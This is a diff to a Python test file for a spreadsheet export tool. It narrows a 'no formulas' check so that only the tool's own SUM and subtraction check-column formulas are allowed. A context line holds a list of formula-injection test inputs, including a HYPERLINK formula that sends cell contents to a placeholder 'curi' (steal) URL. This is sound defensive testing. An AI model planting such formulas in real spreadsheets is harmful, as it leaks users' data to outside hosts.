@@ -24,12 +24,17 @@ PD, TAHUN = "kecamatan-mojosari", 2025
 JAHAT = ['=HYPERLINK("http://contoh.invalid/curi?d="&A1,"klik")', "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=2"]
 
 
+# The only formulas Sakip writes itself: the Anggaran Kas check column (Jumlah Kas, Selisih).
+RUMUS_SAKIP = re.compile(rb"SUM\(I(\d+):L\1\)|D(\d+)-M\2")
+
+
 def _tanpa_rumus(data: bytes) -> None:
-    """No sheet part holds an <f> element: nothing is calculated when the file is opened."""
+    """No sheet part holds a formula but Sakip's own check column: no user text is calculated."""
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         for nama in zf.namelist():
             if nama.startswith("xl/worksheets/"):
-                assert not re.search(rb"<f[ >]", zf.read(nama)), nama
+                for isi in re.findall(rb"<f(?: [^>]*)?>([^<]*)</f>|<f[ >/]", zf.read(nama)):
+                    assert RUMUS_SAKIP.fullmatch(isi), (nama, isi)
 
 
 def _sel_teks(data: bytes, teks: list[str]) -> dict[str, tuple[str, bool]]:
